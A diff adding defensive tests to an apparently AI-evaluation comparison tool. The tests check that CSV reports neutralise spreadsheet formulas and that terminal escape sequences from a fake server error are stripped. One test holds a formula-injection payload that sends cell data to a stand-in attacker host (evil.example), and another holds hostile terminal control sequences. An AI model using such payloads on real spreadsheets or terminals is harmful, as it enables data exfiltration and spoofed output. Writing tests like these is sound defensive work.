@@ -90,3 +90,26 @@ def test_a_report_refuses_a_record_whose_trace_file_is_outside_the_run_directory
         refused(result, "results.jsonl:1", "trace_file", "outside the run directory")
         assert "OUTSIDE-MARKER" not in result.output
         assert not any("OUTSIDE-MARKER" in p.read_text("utf-8", "replace") for p in run.rglob("*") if p.is_file())
+
+
+def test_a_formula_answer_is_neutralised_in_results_csv(tmp_path):
+    run = run_with_trace_file(tmp_path, "traces/tool_use/alpha/BND001.json")
+    lines = (run / "results.jsonl").read_text().splitlines()
+    record = json.loads(lines[0])
+    record["answer"] = {"text": '=HYPERLINK("http://evil.example/?"&A1,"click")', "choices": []}
+    (run / "results.jsonl").write_text("\n".join([json.dumps(record), *lines[1:]]) + "\n")
+    assert compare("report", str(run)).exit_code == 0
+    csv_text = (run / "report" / "results.csv").read_text() if (run / "report").is_dir() else ""
+    csv_text = csv_text or next(run.rglob("results.csv")).read_text()
+    assert "'=HYPERLINK(" in csv_text and ',"=HYPERLINK' not in csv_text and ",=HYPERLINK" not in csv_text
+
+
+def test_a_server_error_with_terminal_escapes_reaches_the_terminal_without_them(tmp_path):
+    from helpers import FakeOpenAIServer, error_response
+
+    hostile = "bad request \x1b]0;pwned\x07\x1b[2J\x1b[1A\x9b31m end"
+    with FakeOpenAIServer(default=error_response(401, hostile)) as fake:
+        flags = ["--models", "openai-compatible:m", "--base-url", fake.base_url, "--limit", "1"]
+        result = compare(*flags, "--out", str(tmp_path / "run"))
+    assert "bad request" in result.output, result.output
+    assert "\x1b" not in result.output and "\x9b" not in result.output and "\x07" not in result.output
